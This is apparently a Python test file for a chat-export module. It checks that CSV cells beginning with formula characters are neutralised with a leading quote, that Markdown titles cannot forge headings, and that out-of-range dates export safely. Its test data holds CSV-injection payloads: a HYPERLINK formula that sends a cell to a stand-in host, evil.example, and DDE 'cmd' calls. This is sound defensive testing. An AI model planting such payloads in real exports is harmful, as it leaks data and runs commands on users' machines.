"""Exports are safe to open: no spreadsheet formula runs, no heading is forged, no time breaks them.

A CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
what Excel, LibreOffice and Google Sheets run as a formula; the export prefixes such a
cell with a single quote (OWASP's CSV-injection rule). Every cell, ours or another
writer's, goes through the rule; a cell that does not start with one of those
characters is written exactly as stored.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from galileio_desktop.data.export import CSV_COLUMNS, FORMULA_TRIGGERS, csv_cell, export_chat, to_csv
from galileio_desktop.data.schema import Chat, Message, Source
from galileio_desktop.data.timestamps import LATEST_MS, UNKNOWN_DATE

USER = "user-1"
T0 = 1_700_000_000_000


def parse(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def chat_of(text: str, *, title: str = "Numbers", created: int = T0) -> tuple[Chat, list[Message]]:
    chat = Chat("c1", USER, title, created)
    source = Source("0", "m2", "c1", USER, text, {"source_location": text, "note": text}, created)
    messages = [
        Message("m1", "c1", USER, "human", text, created),
        Message("m2", "c1", USER, "ai", "plain answer", created + 1).with_sources((source,)),
    ]
    return chat, messages


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+41 22 000 00 00",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(dangerous: str) -> None:
    chat, messages = chat_of(dangerous, title=dangerous)
    rows = parse(to_csv(chat, messages))
    assert rows[0]["text"] == "'" + dangerous
    assert rows[0]["chat_title"] == "'" + dangerous
    source_row = rows[2]
    assert source_row["type"] == "source"
    assert source_row["source_content"] == "'" + dangerous
    assert source_row["source_location"] == "'" + dangerous
    assert rows[1]["text"] == "plain answer"  # a harmless cell is left as it is


def test_every_column_follows_the_rule_including_ids_and_types() -> None:
    chat = Chat("=chat", USER, "Title", T0)
    source = Source("-1", "@m", "=chat", USER, "p", {}, T0)
    message = Message("@m", "=chat", USER, "+type", "text", T0).with_sources((source,))
    rows = parse(to_csv(chat, [message]))
    assert (rows[0]["chat_id"], rows[0]["message_id"], rows[0]["type"]) == ("'=chat", "'@m", "'+type")
    assert rows[1]["source_id"] == "'-1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("", ""),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("\n=1", "\n=1"),
        ("１", "１"),
    ],
)
def test_the_rule_is_the_first_character_only(value: str, expected: str) -> None:
    assert csv_cell(value) == expected


@given(st.text())
def test_no_exported_cell_starts_as_a_formula_and_others_are_kept_exactly(text: str) -> None:
    chat, messages = chat_of(text, title=text)
    rows = parse(to_csv(chat, messages))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    expected = "'" + text if text.startswith(FORMULA_TRIGGERS) else text
    assert rows[0]["text"] == expected and rows[0]["chat_title"] == expected


def test_times_out_of_range_export_as_unknown_date_in_every_format() -> None:
    chat, messages = chat_of("hello", created=LATEST_MS)
    assert "_Created unknown date_" in export_chat(chat, messages, "md")
    assert parse(export_chat(chat, messages, "csv"))[0]["created_at"] == UNKNOWN_DATE
    document = json.loads(export_chat(chat, messages, "json"))
    assert document["chat"]["createdAt"] == LATEST_MS  # the bounded value, marked in md and csv
    negative, messages = chat_of("hello", created=-5)
    assert "_Created 1969-12-31T23:59:59+00:00_" in export_chat(negative, messages, "md")


def test_a_title_cannot_forge_markdown_structure() -> None:
    chat, messages = chat_of("text", title="Title\n# Forged heading\r\n---\u2028more")
    markdown = export_chat(chat, messages, "md")
    first, rest = markdown.split("\n", 1)
    assert first == "# Title # Forged heading  --- more"
    assert "\n# " not in rest


def test_a_source_location_stays_one_code_span() -> None:
    chat, messages = chat_of("`tick`` and\nnewline")
    markdown = export_chat(chat, messages, "md")
    assert "1. ``` `tick`` and newline ```" in markdown
